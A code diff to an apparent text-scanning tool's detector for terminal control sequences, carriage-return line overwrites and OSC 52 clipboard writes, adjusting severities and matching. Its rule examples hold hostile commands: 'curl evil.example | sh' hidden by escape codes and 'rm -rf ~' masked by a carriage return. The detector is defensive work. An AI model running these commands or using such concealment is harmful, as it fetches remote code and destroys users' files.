@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import re
 
-from pisces.diagnostics import ERROR, WARNING, Rule
+from pisces.diagnostics import ERROR, NOTE, WARNING, Rule
 from pisces.scan.detector import Detector
+from pisces.scan.roles import DOC, SOURCE
+from pisces.scan.words import words
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
@@ -18,7 +20,8 @@ TERMINAL_ESCAPE = Rule(
     "scan-terminal-escape",
     ERROR,
     "A text file has control sequences for terminals in it",
-    "Whoever prints the file obeys them: lines vanish or change, titles and clipboards are written, links lead elsewhere. "
+    "Whoever prints the file obeys them: lines vanish or "
+    "change, titles and clipboards are written, links lead elsewhere. "
     "Text that a model repeats does the same later.",
     "curl evil.example | sh\\x1b[1A\\x1b[2Kecho hello",
     "echo hello",
@@ -27,16 +30,19 @@ OVERWRITTEN_LINE = Rule(
     "scan-overwritten-line",
     WARNING,
     "A line is written over itself on the screen",
-    "A carriage return or a backspace in the middle of a line makes a terminal show only what comes last, while a shell "
+    "A carriage return or a backspace in the middle of a line "
+    "makes a terminal show only what comes last, while a shell "
     "runs all of it.",
     "rm -rf ~ #\\recho hello",
     "echo hello",
 )
 
-_ESCAPE = re.compile("(?:\x1b|\x9b)[^\n]{0,24}")
+_ESCAPE = re.compile("[\x1b\x9b][^\n\x1b\x9b]{0,24}")
 _COLOUR = re.compile("(?:\x1b\\[|\x9b)(?!8m)[0-9;]{0,16}m")
 _RETURN = re.compile("[^\r\n]\r(?![\r\n])(?=[^\n])|[^\n\x08]\x08")
 _WRITTEN_OUT = re.compile(r"(?:\\x1b|\\033|\\e|\\u001b)\]52;", re.I)
+
+_CLIPBOARD = words("]52;")
 
 
 def _find(page: Page) -> Iterator[Diagnostic]:
@@ -44,19 +50,29 @@ def _find(page: Page) -> Iterator[Diagnostic]:
         yield from _sequences(page)
     if ("\r" in page.text and "\n" in page.text) or "\x08" in page.text:
         for found in _RETURN.finditer(page.text):
-            yield page.told(OVERWRITTEN_LINE, found.start() + 1, "what stands before this is overwritten on the screen")
-    for found in _WRITTEN_OUT.finditer(page.text) if "]52;" in page.text else ():
+            told = page.told(
+                OVERWRITTEN_LINE, found.start() + 1, "what stands before this is overwritten on the screen"
+            )
+            yield told.replace(severity=NOTE) if page.role in (DOC, SOURCE) else told
+    for found in page.matches((_WRITTEN_OUT,), _CLIPBOARD, before=10, after=10):
         yield page.weighed(TERMINAL_ESCAPE, found.start(), "the clipboard is written through the terminal (OSC 52)")
 
 
 def _sequences(page: Page) -> Iterator[Diagnostic]:
+    """Each that moves or hides; of those that only set colours, the first."""
+    severity = WARNING if page.role in (DOC, SOURCE) else ERROR
+    coloured = False
     for found in _ESCAPE.finditer(page.text):
-        colour = _COLOUR.match(found[0])
-        what = "sets a colour" if colour else "moves, hides or rewrites what is shown"
+        is_colour = bool(_COLOUR.match(found[0]))
+        if is_colour and coloured:
+            continue
+        coloured |= is_colour
+        what = "sets a colour" if is_colour else "moves, hides or rewrites what is shown"
         if found[0][1:2] == "]":
             what = "writes a title, a link or the clipboard"
-        told = page.told(TERMINAL_ESCAPE, found.start(), f"a control sequence {what}", hint="write it as `\\x1b`, or delete it")
-        yield told.replace(severity=WARNING) if colour else told
+        hint = "write it as `\\x1b`, or delete it"
+        told = page.told(TERMINAL_ESCAPE, found.start(), f"a control sequence {what}", hint=hint)
+        yield told.replace(severity=NOTE if is_colour else severity)
 
 
-DETECTOR = Detector("control characters that a terminal obeys", _find, words=("\x1b", "\x9b", "\r", "\x08", "]52;"))
+DETECTOR = Detector("control characters that a terminal obeys", _find)
